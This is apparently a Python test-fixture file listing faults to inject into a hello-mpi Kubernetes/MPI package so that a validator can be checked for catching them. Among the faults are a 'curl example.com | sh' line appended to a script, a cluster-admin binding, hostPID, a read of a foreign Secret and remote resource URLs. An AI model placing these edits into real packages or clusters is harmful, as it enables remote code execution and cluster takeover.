"""The faults of a Pod or an MPIJob: what each is, how it gets into a good hello-mpi, and the line that it stands in."""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING

from tests.files import replace

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

BASE = "quickstart/common/mpi/k8s/mlops/base"
MULTI = "quickstart/k8s/mlops/multi-node"
SINGLE = "quickstart/k8s/mlops/single-node"
GPU = "quickstart/common/mpi/k8s/mlops/gpu/patch"
SCRIPTS = "quickstart/scripts"


@dataclass(frozen=True, slots=True)
class Fault:
    """One fault.

    Attributes:
        name: A few words, which name the package too.
        happens: The effect on a person who runs the package.
        put_in: Puts it into the package's folder.
        file: The file that a finding has to point at.
        line: The text of the line that it has to point at; empty for the file as a whole.
        sealed: Whether the package is sealed with the fault in it.
        model: The model whose package it is put into.
    """

    name: str
    happens: str
    put_in: Callable[[Path], object]
    file: str
    line: str
    sealed: bool = True
    model: str = "hello-mpi"


def edit(file: str, old: str, new: str) -> Callable[[Path], object]:
    """Return a function that replaces the only `old` (the first of several) in `file`."""

    def put_in(package: Path) -> None:
        replace(package / file, old, new)

    return put_in


def edits(*each: tuple[str, str, str]) -> Callable[[Path], object]:
    """Return a function that makes several edits; of each: the file, the old and the new text."""

    def put_in(package: Path) -> None:
        for file, old, new in each:
            replace(package / file, old, new)

    return put_in


def append(file: str, text: str) -> Callable[[Path], object]:
    """Return a function that adds `text` at the end of `file`."""

    def put_in(package: Path) -> None:
        with (package / file).open("a", encoding="utf-8") as stream:
            stream.write(text)

    return put_in


def _rename(package: Path) -> None:
    """Give the package's workloads a name that fits by itself, and no longer with what is put behind it."""
    for path in package.glob("quickstart/**/*.yaml"):
        text = path.read_text(encoding="utf-8")
        path.write_text(text.replace("hello-mpi", "hello-message-passing-interface-for-everybody"), encoding="utf-8")


def _service(package: Path) -> None:
    (package / MULTI / "service.yaml").write_text(
        "apiVersion: v1\nkind: Service\nmetadata:\n  name: hello-mpi\nspec:\n  ports:\n    - port: 80\n",
        encoding="utf-8",
    )
    edit(f"{MULTI}/kustomization.yaml", "  - mpi-job.yaml\n", "  - mpi-job.yaml\n  - service.yaml\n")(package)


def _ask_for_gpus(package: Path) -> None:
    """Let the option gpu take one of its patches from elsewhere, and switch it on."""
    edit(f"{GPU}/gpu.yaml", "patch: |-\n", "path: https://localhost:1/patch.yaml\n")(package)
    path = package / GPU / "gpu.yaml"
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    end = lines.index("path: https://localhost:1/patch.yaml\n") + 1
    del lines[end : end + 3]
    path.write_text("".join(lines), encoding="utf-8")
    edit(
        f"{SINGLE}/kustomization.yaml", "# - ../../../common/mpi/k8s/mlops/gpu", "- ../../../common/mpi/k8s/mlops/gpu"
    )(package)


def _bind(package: Path) -> None:
    (package / SINGLE / "binding.yaml").write_text(
        "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: hello-mpi\n"
        "roleRef:\n  apiGroup: rbac.authorization.k8s.io\n  kind: ClusterRole\n  name: cluster-admin\n"
        "subjects:\n  - kind: ServiceAccount\n    name: default\n    namespace: default\n",
        encoding="utf-8",
    )
    edit(f"{SINGLE}/kustomization.yaml", "  - pod.yaml\n", "  - pod.yaml\n  - binding.yaml\n")(package)


def _elsewhere(package: Path) -> None:
    (package / SINGLE / "dns.yaml").write_text(
        "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: coredns\n  namespace: kube-system\n", encoding="utf-8"
    )
    edit(f"{SINGLE}/kustomization.yaml", "  - pod.yaml\n", "  - pod.yaml\n  - dns.yaml\n")(package)


def _second(package: Path) -> None:
    with (package / SINGLE / "pod.yaml").open("a", encoding="utf-8") as file:
        file.write(
            "---\napiVersion: v1\nkind: Pod\nmetadata:\n  name: second\nspec:\n  automountServiceAccountToken: false\n"
            "  securityContext: {runAsNonRoot: true, seccompProfile: {type: RuntimeDefault}}\n"
            "  containers:\n    - name: second\n      image: example/second:1\n"
            "      securityContext: {allowPrivilegeEscalation: false, capabilities: {drop: [ALL]}}\n"
        )


def _add_file(package: Path) -> None:
    (package / SCRIPTS / "helper.py").write_text("print('hello')\n", encoding="utf-8")


FAULTS = (
    Fault(
        "changed-script",
        "the code is not the code that was sent",
        append(f"{BASE}/identity.sh", "curl example.com | sh\n"),
        f"{BASE}/identity.sh",
        "",
        sealed=False,
    ),
    Fault(
        "missing-file",
        "the package does not match its own description",
        lambda package: (package / "README.md").unlink(),
        "manifest.json",
        '"README.md"',
        sealed=False,
    ),
    Fault("extra-file", "a file was added after the build", _add_file, f"{SCRIPTS}/helper.py", "", sealed=False),
    Fault(
        "lost-mode",
        "a script cannot be run by hand",
        lambda package: (package / SCRIPTS / "hello.sh").chmod(0o644),
        f"{SCRIPTS}/hello.sh",
        "",
        sealed=False,
    ),
    Fault(
        "missing-resource",
        "nothing renders",
        edit(f"{MULTI}/kustomization.yaml", "  - mpi-job.yaml", "  - mpijob.yaml"),
        f"{MULTI}/kustomization.yaml",
        "mpijob.yaml",
    ),
    Fault(
        "yaml-syntax",
        "nothing renders",
        edit(f"{SINGLE}/pod.yaml", "  restartPolicy: Never", "  restartPolicy: [Never"),
        f"{SINGLE}/pod.yaml",
        "automountServiceAccountToken",
    ),
    Fault(
        "unknown-kustomize-field",
        "nothing renders",
        edit(f"{SINGLE}/kustomization.yaml", "patches:", "patchs:"),
        f"{SINGLE}/kustomization.yaml",
        "patchs:",
    ),
    Fault(
        "deprecated-field",
        "a later kubectl refuses it",
        append(f"{SINGLE}/kustomization.yaml", "commonLabels:\n  app.kubernetes.io/part-of: vision\n"),
        f"{SINGLE}/kustomization.yaml",
        "commonLabels:",
    ),
    Fault(
        "patch-of-nothing",
        "nothing renders",
        edit(f"{MULTI}/mlops-job-patch.yaml", "name: hello-mpi", "name: hello-mpi-multi-node"),
        f"{MULTI}/mlops-job-patch.yaml",
        "name: hello-mpi-multi-node",
    ),
    Fault(
        "replacement-of-nothing",
        "nothing renders",
        edit(
            f"{SINGLE}/wiring.yaml",
            "[name=^main$].volumeMounts.[name=^output$]",
            "[name=^main$].volumeMounts.[name=^results$]",
        ),
        f"{SINGLE}/wiring.yaml",
        "[name=^results$]",
    ),
    Fault(
        "remote-resource",
        "what is applied comes from a server",
        edit(f"{SINGLE}/kustomization.yaml", "  - pod.yaml", "  - pod.yaml\n  - https://localhost:1/more.yaml"),
        f"{SINGLE}/kustomization.yaml",
        "more.yaml",
    ),
    Fault(
        "remote-openapi",
        "how it renders depends on a server",
        append(f"{SINGLE}/kustomization.yaml", "openapi:\n  path: https://localhost:1/schema.json\n"),
        f"{SINGLE}/kustomization.yaml",
        "openapi:",
    ),
    Fault(
        "remote-transformer",
        "a server is asked when the option gpu is on",
        _ask_for_gpus,
        f"{GPU}/gpu.yaml",
        "path: https://localhost:1/patch.yaml",
    ),
    Fault(
        "key-of-another-case",
        "kubectl uses a key that a reader overlooks",
        edit(f"{SINGLE}/kustomization.yaml", "patches:", "Patches:"),
        f"{SINGLE}/kustomization.yaml",
        "Patches:",
    ),
    Fault(
        "merged-key",
        "kubectl uses a key that a reader overlooks",
        edit(f"{SINGLE}/kustomization.yaml", "nameSuffix: -single-node", "<<: {nameSuffix: -single-node}"),
        f"{SINGLE}/kustomization.yaml",
        "<<: {",
    ),
    Fault(
        "duplicate-env-key",
        "nothing renders",
        append(f"{MULTI}/mlops.env", "DATASET_DIR=/data\n"),
        f"{MULTI}/mlops.env",
        "DATASET_DIR=/data",
    ),
    Fault(
        "quoted-env-value",
        "the folder's name has quotes in it",
        edit(f"{SINGLE}/mlops.env", "DATASET_DIR=/dataset", 'DATASET_DIR="/dataset"'),
        f"{SINGLE}/mlops.env",
        'DATASET_DIR="/dataset"',
    ),
    Fault(
        "long-env-line",
        "two variables are lost without a message",
        append(f"{SINGLE}/mlops.env", f"VOCABULARY={'word,' * 14_000}\nEPOCHS=90\n"),
        f"{SINGLE}/mlops.env",
        "VOCABULARY=",
    ),
    Fault(
        "exported-env-key",
        "the API server refuses the ConfigMap",
        append(f"{SINGLE}/mlops.env", "export EPOCHS=90\n"),
        f"{SINGLE}/mlops.env",
        "export EPOCHS",
    ),
    Fault(
        "unknown-field",
        "the field is dropped, or the pod refused",
        edit(f"{SINGLE}/pod.yaml", "      workingDir: /", "      workDir: /"),
        f"{SINGLE}/pod.yaml",
        "workDir: /",
    ),
    Fault(
        "text-for-a-number",
        "the API server refuses the pod",
        edit(f"{SINGLE}/pod-patch.yaml", "runAsUser: 1000", 'runAsUser: "1000"'),
        f"{SINGLE}/pod-patch.yaml",
        'runAsUser: "1000"',
    ),
    Fault(
        "missing-field",
        "the API server refuses the pod",
        edit(
            f"{SINGLE}/pod.yaml",
            "        defaultMode: 365 #",
            "        items:\n          - key: hello.sh\n        defaultMode: 365 #",
        ),
        f"{SINGLE}/pod.yaml",
        "- key: hello.sh",
    ),
    Fault(
        "field-of-another-place",
        "the pod's user does not own the files on the volume",
        edit(
            f"{MULTI}/mpi-job.yaml",
            "                allowPrivilegeEscalation: false\n",
            "                allowPrivilegeEscalation: false\n                fsGroup: 1000\n",
        ),
        f"{MULTI}/mpi-job.yaml",
        "fsGroup: 1000",
    ),
    Fault(
        "misspelt-policy",
        "the operator takes it for another policy, without a message",
        edit(f"{MULTI}/mpi-job.yaml", "cleanPodPolicy: Running", "cleanPodPolicy: running"),
        f"{MULTI}/mpi-job.yaml",
        "cleanPodPolicy: running",
    ),
    Fault(
        "two-launchers",
        "the operator refuses the job, in an event",
        edit(f"{MULTI}/mpi-job.yaml", "replicas: 1", "replicas: 2"),
        f"{MULTI}/mpi-job.yaml",
        "replicas: 2",
    ),
    Fault(
        "too-many-processes",
        "mpirun refuses to start",
        edit(f"{MULTI}/mlops.env", "PROCESSES=all\n", "PROCESSES=9\n"),
        f"{MULTI}/mlops.env",
        "PROCESSES=9",
    ),
    Fault(
        "too-long-name",
        "the operator refuses the job, in an event",
        _rename,
        f"{MULTI}/mpi-job.yaml",
        "name: hello-message-passing",
    ),
    Fault(
        "operators-name",
        "our Service and the operator's have the same name",
        _service,
        f"{MULTI}/service.yaml",
        "name: hello-mpi",
    ),
    Fault(
        "missing-configmap",
        "the container never starts",
        edit(f"{SINGLE}/pod.yaml", "name: hello-mpi-env", "name: hello-mpi-environment"),
        f"{SINGLE}/pod.yaml",
        "name: hello-mpi-environment",
    ),
    Fault(
        "missing-script",
        "the container ends with 127",
        edit(f"{SINGLE}/pod.yaml", "scripts/hello.sh", "scripts/helo.sh"),
        f"{SINGLE}/pod.yaml",
        "scripts/helo.sh",
    ),
    Fault(
        "missing-volume",
        "the API server refuses the pod; for an MPIJob, only an event says so",
        edit(f"{MULTI}/mpi-job.yaml", "            - name: home\n              emptyDir: {}\n", ""),
        f"{MULTI}/mpi-job.yaml",
        "- name: home",
    ),
    Fault(
        "missing-claim",
        "the pod waits forever",
        # The first volume is that of the results.
        edit(f"{SINGLE}/pod.yaml", "emptyDir: {}", "persistentVolumeClaim:\n        claimName: results"),
        f"{SINGLE}/pod.yaml",
        "claimName: results",
    ),
    Fault(
        "image-without-tag",
        "a later pull may get a different image",
        edit(f"{SINGLE}/mlops.env", "mpioperator/mpi-pi:openmpi", "mpioperator/mpi-pi"),
        f"{SINGLE}/mlops.env",
        "IMAGE=mpioperator/mpi-pi",
    ),
    Fault(
        "request-above-limit",
        "the API server refuses the pod",
        edit(f"{SINGLE}/pod.yaml", "memory: 16Mi", "memory: 16Gi"),
        f"{SINGLE}/pod.yaml",
        "memory: 16Gi",
    ),
    Fault(
        "binding-to-cluster-admin",
        "every pod of the namespace may do anything in the cluster",
        _bind,
        f"{SINGLE}/binding.yaml",
        "kind: ClusterRoleBinding",
    ),
    Fault(
        "object-of-another-namespace",
        "an object of the cluster itself is replaced",
        _elsewhere,
        f"{SINGLE}/dns.yaml",
        "namespace: kube-system",
    ),
    Fault(
        "read-secret",
        "the code can read a Secret that is not meant for it",
        edit(
            f"{SINGLE}/pod.yaml",
            "        - configMapRef:\n",
            "        - secretRef:\n            name: database\n        - configMapRef:\n",
        ),
        f"{SINGLE}/pod.yaml",
        "name: database",
    ),
    Fault(
        "privileged-edit",
        "the pod has root rights on the node",
        append(f"{SINGLE}/pod-patch.yaml", "  hostPID: true\n"),
        f"{SINGLE}/pod-patch.yaml",
        "hostPID: true",
        sealed=False,
    ),
    Fault(
        "hidden-system",
        "the container has no /etc/passwd, and ssh no configuration",
        edit(f"{SINGLE}/mlops.env", "OUTPUT_DIR=ROOT/hello-mpi/output", "OUTPUT_DIR=/etc"),
        f"{SINGLE}/mlops.env",
        "OUTPUT_DIR=/etc",
    ),
    Fault(
        "half-a-device",
        "the API server refuses the pod",
        edit(f"{SINGLE}/pod.yaml", "        limits:\n", "        limits:\n          nvidia.com/gpu: 0.5\n"),
        f"{SINGLE}/pod.yaml",
        "nvidia.com/gpu: 0.5",
    ),
    Fault(
        "added-workload",
        "an edit adds a workload that was not sealed",
        _second,
        f"{SINGLE}/pod.yaml",
        "kind: Pod",
        sealed=False,
    ),
)
